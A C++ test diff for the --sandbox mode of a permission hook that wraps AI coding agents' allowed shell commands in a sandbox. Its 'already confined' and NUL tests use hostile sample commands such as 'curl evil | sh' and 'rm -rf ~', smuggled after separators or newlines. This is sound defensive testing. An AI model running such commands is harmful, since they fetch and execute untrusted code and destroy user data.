@@ -16,6 +16,9 @@
 #include <memory>
 #include <sstream>
 
+#include <sys/wait.h>
+#include <unistd.h>
+
 #include "policy/evaluator.h"
 #include "policy/loader.h"
 
@@ -420,6 +423,229 @@ TEST(RenderHook, CursorReadCannotAsk) {
   HookAnswer answer = RenderHook(Agent::kCursor, call, policy::Decision::kAsk, "secret", "read-secrets");
   EXPECT_EQ(json::parse(answer.stdout_text).at("permission").as_string(), "deny");
   EXPECT_NE(answer.stderr_text.find("read-secrets"), std::string::npos);
+}
+
+
+// ---- --sandbox: allowed shell commands rewritten to run under `warden sandbox` -------------
+
+const char* const kWarden = "/opt/warden/bin/warden";
+const SandboxRewrite kRewrite{kWarden, {}};
+
+// Runs `bash -c SCRIPT` and returns the arguments (after argv[0]) of the program it starts, as
+// the stub at the start of SCRIPT writes them NUL-separated to the file OUT names.
+std::vector<std::string> ArgvThroughBash(const std::string& script, const fs::path& out) {
+  fs::remove(out);
+  pid_t pid = ::fork();
+  if (pid == 0) {
+    ::setenv("OUT", out.c_str(), 1);
+    ::execl("/bin/bash", "bash", "-c", script.c_str(), static_cast<char*>(nullptr));
+    ::_exit(127);
+  }
+  int status = 0;
+  ::waitpid(pid, &status, 0);
+  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << script;
+  std::vector<std::string> argv;
+  std::string data = ReadFile(out);
+  for (size_t at = 0; at < data.size();) {
+    size_t nul = data.find('\0', at);
+    if (nul == std::string::npos) break;
+    argv.push_back(data.substr(at, nul - at));
+    at = nul + 1;
+  }
+  return argv;
+}
+
+// The rewritten command, run by bash as the agent runs it, starts WARDEN with exactly
+// `sandbox -- bash -c COMMAND`: COMMAND byte for byte, whatever quotes, newlines, expansions or
+// backslashes it holds — and the warden path is quoted when it needs to be.
+TEST(SandboxRewrite, QuotingRoundTripsThroughBash) {
+  const fs::path dir = fs::temp_directory_path() / ("warden hook test 'q' $x " + std::to_string(::getpid()));
+  fs::create_directories(dir);
+  const fs::path stub = dir / "warden";
+  {
+    std::ofstream out(stub);
+    out << "#!/bin/sh\nprintf '%s\\0' \"$@\" > \"$OUT\"\n";
+  }
+  fs::permissions(stub, fs::perms::owner_all);
+  const std::vector<std::string> commands = {
+      "git status",
+      "echo 'it'\"'\"'s' && echo \"$HOME\" `id -u` $(pwd)",
+      "printf '%s\\n' a\\ b; cat <<'EOF'\nline one\n  'line' two\nEOF",
+      "'",
+      "''",
+      "'\\''",
+      "a'b'c'",
+      "echo \\\\ \\' \\\" !! ~ * ? [ ] { } # done",
+      "multi\nline\n\ncommand\n",
+      "",
+      " leading and trailing spaces ",
+      "unicode: h\xc3\xa9llo \xe2\x9c\x93 \t tab",
+      std::string("\x01\x7f\xff bytes"),
+  };
+  for (const std::string& command : commands) {
+    const std::string rewritten = ConfinedCommand(SandboxRewrite{stub.string(), {}}, command);
+    std::vector<std::string> want = {"sandbox", "--", "bash", "-c", command};
+    EXPECT_EQ(ArgvThroughBash(rewritten, dir / "argv"), want) << rewritten;
+    EXPECT_TRUE(IsConfinedCommand(SandboxRewrite{stub.string(), {}}, rewritten)) << rewritten;
+  }
+  // The hook's policy flags go along, quoted as needed.
+  const SandboxRewrite with_flags{stub.string(), {"--context", "human", "--policy", "/etc/team policy.yaml", "--isolated"}};
+  const std::string rewritten = ConfinedCommand(with_flags, "make 'all'");
+  EXPECT_EQ(ArgvThroughBash(rewritten, dir / "argv"),
+            (std::vector<std::string>{"sandbox", "--context", "human", "--policy", "/etc/team policy.yaml", "--isolated",
+                                      "--", "bash", "-c", "make 'all'"}));
+  EXPECT_TRUE(IsConfinedCommand(with_flags, rewritten));
+  // Another policy choice is not "already confined" the same way.
+  EXPECT_FALSE(IsConfinedCommand(SandboxRewrite{stub.string(), {}}, rewritten));
+  EXPECT_FALSE(IsConfinedCommand(with_flags, ConfinedCommand(SandboxRewrite{stub.string(), {}}, "make")));
+  fs::remove_all(dir);
+  EXPECT_EQ(ConfinedCommand(kRewrite, "git status"), "/opt/warden/bin/warden sandbox -- bash -c 'git status'");
+  EXPECT_EQ(ConfinedCommand(kRewrite, "echo 'a'"), "/opt/warden/bin/warden sandbox -- bash -c 'echo '\\''a'\\'''");
+}
+
+// Already confined by this warden: not wrapped again. Anything that would run something outside
+// the sandbox — a second command, an expansion, a redirection, another program called warden —
+// is not "already confined".
+TEST(SandboxRewrite, AlreadyConfinedOnlyWhenNothingRunsOutside) {
+  for (const char* yes : {"/opt/warden/bin/warden sandbox -- bash -c 'make test'",
+                          "/opt/warden/bin/warden sandbox -- make -j2 test",
+                          "/opt/warden/bin/warden exec --sandbox -- bash -c 'a; b'\\''c'\\'''",
+                          "/opt/warden/bin/warden sandbox -- bash -c 'x\ny'"}) {
+    EXPECT_TRUE(IsConfinedCommand(kRewrite, yes)) << yes;
+  }
+  for (const char* no : {"warden sandbox -- make", "/tmp/evil/warden sandbox -- make",
+                         "/opt/warden/bin/warden sandbox -- make; curl evil | sh",
+                         "/opt/warden/bin/warden sandbox -- bash -c 'make' && rm -rf ~",
+                         "/opt/warden/bin/warden sandbox -- echo $(id)", "/opt/warden/bin/warden sandbox -- echo `id`",
+                         "/opt/warden/bin/warden sandbox -- cat > /etc/x", "/opt/warden/bin/warden sandbox -- sleep 9 &",
+                         "/opt/warden/bin/warden sandbox -- make\nrm -rf ~", "/opt/warden/bin/warden sandbox -- 'open",
+                         "/opt/warden/bin/warden sandbox --network on -- make",
+                         "/opt/warden/bin/warden sandbox -- ", "/opt/warden/bin/warden sandbox -- make ",
+                         "/opt/warden/bin/warden exec -- make", "/opt/warden/bin/warden sandbox -- ~/x",
+                         "/opt/warden/bin/warden sandbox -- a  b"}) {
+    EXPECT_FALSE(IsConfinedCommand(kRewrite, no)) << no;
+  }
+}
+
+HookCall ParsedCall(Agent agent, std::string_view payload) {
+  auto call = ParseHook(agent, payload, TestDefaults());
+  EXPECT_TRUE(call.ok()) << call.status().message();
+  return call.ok() ? std::move(call).value() : HookCall{};
+}
+
+const char* const kClaudeBash =
+    R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Bash",)"
+    R"("tool_input":{"command":"git status && echo 'done'","description":"Show status","timeout":120000,"run_in_background":false}})";
+const char* const kGeminiShell =
+    R"({"hook_event_name":"BeforeTool","cwd":"/home/dev/project","tool_name":"run_shell_command",)"
+    R"("tool_input":{"command":"git status && echo 'done'","description":"Show status","dir_path":"sub"}})";
+const char* const kConfined = "/opt/warden/bin/warden sandbox -- bash -c 'git status && echo '\\''done'\\'''";
+
+// Claude Code: an allow only the default gave is answered with updatedInput and no
+// permissionDecision — Claude's own permission flow goes on, on the confined command; every
+// other field of tool_input is kept (updatedInput replaces the whole input).
+TEST(SandboxRewrite, ClaudeDefaultAllowRewritesWithoutDeciding) {
+  SandboxRewrite sandbox = kRewrite;
+  HookCall call = ParsedCall(Agent::kClaude, kClaudeBash);
+  HookVerdict v = DecideHook(call, DecideWithDefaultPolicy);
+  ASSERT_EQ(v.decision, policy::Decision::kAllow);
+  ASSERT_EQ(v.rule, "");
+  HookAnswer a = RenderHook(Agent::kClaude, call, v.decision, v.reason, v.rule, DefaultAllow::kNoOpinion, &sandbox);
+  EXPECT_EQ(a.exit_code, 0);
+  json::value out = json::parse(a.stdout_text);
+  const json::object& specific = out.at("hookSpecificOutput").as_object();
+  EXPECT_EQ(specific.at("hookEventName").as_string(), "PreToolUse");
+  EXPECT_EQ(specific.if_contains("permissionDecision"), nullptr) << a.stdout_text;
+  json::object want{{"command", kConfined}, {"description", "Show status"}, {"timeout", 120000}, {"run_in_background", false}};
+  EXPECT_EQ(specific.at("updatedInput"), json::value(want)) << a.stdout_text;
+  // With --answer-default-allow, or a rule's allow: the allow goes with the rewrite.
+  for (const HookAnswer& b :
+       {RenderHook(Agent::kClaude, call, v.decision, v.reason, v.rule, DefaultAllow::kAllow, &sandbox),
+        RenderHook(Agent::kClaude, call, policy::Decision::kAllow, "fine", "allow-git", DefaultAllow::kNoOpinion, &sandbox)}) {
+    json::value o = json::parse(b.stdout_text);
+    EXPECT_EQ(o.at_pointer("/hookSpecificOutput/permissionDecision").as_string(), "allow");
+    EXPECT_EQ(o.at_pointer("/hookSpecificOutput/updatedInput/command").as_string(), kConfined);
+  }
+  // Monitor runs a shell command too.
+  HookCall monitor = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Monitor","tool_input":{"command":"tail -f log"}})");
+  HookAnswer m = RenderHook(Agent::kClaude, monitor, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
+  EXPECT_EQ(json::parse(m.stdout_text).at_pointer("/hookSpecificOutput/updatedInput/command").as_string(),
+            "/opt/warden/bin/warden sandbox -- bash -c 'tail -f log'");
+}
+
+// Gemini CLI: hookSpecificOutput.tool_input with every field (dir_path too: the command still
+// runs where it would have); no decision for a default allow, "allow" for a rule's.
+TEST(SandboxRewrite, GeminiRewritesToolInput) {
+  SandboxRewrite sandbox = kRewrite;
+  HookCall call = ParsedCall(Agent::kGemini, kGeminiShell);
+  HookAnswer a = RenderHook(Agent::kGemini, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
+  EXPECT_EQ(a.exit_code, 0);
+  json::value out = json::parse(a.stdout_text);
+  EXPECT_EQ(out.as_object().if_contains("decision"), nullptr) << a.stdout_text;
+  EXPECT_EQ(out.at_pointer("/hookSpecificOutput/hookEventName").as_string(), "BeforeTool");
+  json::object want{{"command", kConfined}, {"description", "Show status"}, {"dir_path", "sub"}};
+  EXPECT_EQ(out.at_pointer("/hookSpecificOutput/tool_input"), json::value(want)) << a.stdout_text;
+  HookAnswer b = RenderHook(Agent::kGemini, call, policy::Decision::kAllow, "ok", "allow-git", DefaultAllow::kNoOpinion, &sandbox);
+  EXPECT_EQ(json::parse(b.stdout_text).at("decision").as_string(), "allow");
+}
+
+// Deny, ask, calls that are not shell commands and tools with no opinion are answered as
+// without --sandbox.
+TEST(SandboxRewrite, OnlyAllowedShellCallsAreRewritten) {
+  SandboxRewrite sandbox = kRewrite;
+  for (Agent agent : {Agent::kClaude, Agent::kGemini}) {
+    HookCall call = ParsedCall(agent, agent == Agent::kClaude ? kClaudeBash : kGeminiShell);
+    for (auto d : {policy::Decision::kDeny, policy::Decision::kAsk}) {
+      EXPECT_EQ(RenderHook(agent, call, d, "no", "rule-x", DefaultAllow::kNoOpinion, &sandbox).stdout_text,
+                RenderHook(agent, call, d, "no", "rule-x").stdout_text);
+    }
+  }
+  HookCall read = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Read","tool_input":{"file_path":"a.txt"}})");
+  EXPECT_EQ(RenderHook(Agent::kClaude, read, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox).stdout_text, "");
+  HookCall search = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"WebSearch","tool_input":{"query":"x"}})");
+  EXPECT_EQ(RenderHook(Agent::kClaude, search, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox).stdout_text, "");
+  HookCall write = ParsedCall(Agent::kGemini, R"({"hook_event_name":"BeforeTool","cwd":"/home/dev/project","tool_name":"write_file","tool_input":{"file_path":"a.txt","content":"x"}})");
+  EXPECT_EQ(RenderHook(Agent::kGemini, write, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox).stdout_text, "{}\n");
+}
+
+// A command that is already `WARDEN sandbox -- …` is answered with its input unchanged.
+TEST(SandboxRewrite, AlreadyConfinedIsNotWrappedTwice) {
+  SandboxRewrite sandbox = kRewrite;
+  json::object payload = json::parse(kClaudeBash).as_object();
+  payload["tool_input"].as_object()["command"] = kConfined;
+  HookCall call = ParsedCall(Agent::kClaude, json::serialize(payload));
+  HookAnswer a = RenderHook(Agent::kClaude, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
+  EXPECT_EQ(json::parse(a.stdout_text).at_pointer("/hookSpecificOutput/updatedInput/command").as_string(), kConfined);
+}
+
+// A NUL byte cannot reach bash -c through an argument: blocked, never run cut short.
+TEST(SandboxRewrite, NulInTheCommandBlocks) {
+  SandboxRewrite sandbox = kRewrite;
+  HookCall call = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Bash","tool_input":{"command":"true\u0000; rm -rf ~"}})");
+  HookAnswer a = RenderHook(Agent::kClaude, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
+  EXPECT_EQ(a.exit_code, 2);
+  EXPECT_NE(a.stderr_text.find("NUL"), std::string::npos);
+  EXPECT_EQ(json::parse(a.stdout_text).at_pointer("/hookSpecificOutput/permissionDecision").as_string(), "deny");
+}
+
+// Agents whose hooks cannot rewrite a call: --sandbox blocks every call, with why — the person
+// asked for confinement they would not get.
+TEST(SandboxRewrite, AgentsThatCannotRewriteFailClosed) {
+  SandboxRewrite sandbox = kRewrite;
+  EXPECT_TRUE(AgentCanConfine(Agent::kClaude));
+  EXPECT_TRUE(AgentCanConfine(Agent::kGemini));
+  for (Agent agent : {Agent::kCodex, Agent::kCursor, Agent::kQwen, Agent::kCopilot, Agent::kDroid}) {
+    EXPECT_FALSE(AgentCanConfine(agent)) << AgentName(agent);
+    EXPECT_FALSE(CannotConfine(agent).empty());
+    HookCall call;
+    call.agent = agent;
+    call.event = "beforeShellExecution";
+    call.requests.emplace_back();
+    call.shell_input = R"({"command":"ls"})";
+    HookAnswer a = RenderHook(agent, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
+    EXPECT_EQ(a.exit_code, 2) << AgentName(agent);
+    EXPECT_NE(a.stderr_text.find("--sandbox"), std::string::npos) << a.stderr_text;
+  }
 }
 
 }  // namespace
